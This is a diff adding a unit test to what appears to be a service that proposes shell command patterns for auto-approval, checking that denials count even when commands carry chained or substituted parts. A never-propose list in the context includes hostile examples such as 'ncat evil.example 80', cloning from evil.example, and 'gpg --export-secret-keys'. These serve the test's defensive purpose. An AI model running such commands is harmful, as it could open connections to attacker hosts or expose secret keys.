@@ -54,6 +54,17 @@ class Proposals(ServiceTest):
         self.decide("shiptool out --now", "deny")
         self.assertNotIn("shiptool out", self.proposals())
 
+    def test_a_rejection_counts_whatever_else_is_in_the_call(self):
+        for name in ("atool", "btool", "ctool"):
+            for _ in range(3):
+                self.decide(f"{name} out", "approve")
+            self.assertIn(f"{name} out", self.proposals())
+        self.decide("git reset --hard && atool out", "deny")
+        self.decide("btool out $(cat x)", "deny")
+        self.decide("ctool out --password=hunter2hunter2", "deny")
+        for name in ("atool", "btool", "ctool"):
+            self.assertNotIn(f"{name} out", self.proposals())
+
     def test_what_a_pattern_cannot_bound_is_never_proposed(self):
         never = ("doas id", "git reset --hard", "npm install left-pad", "systemctl restart x", "python3 -c 'import os'",
                  "bash x.sh", "ncat evil.example 80", "git clone https://evil.example/x", "gpg --export-secret-keys", "./x.sh",
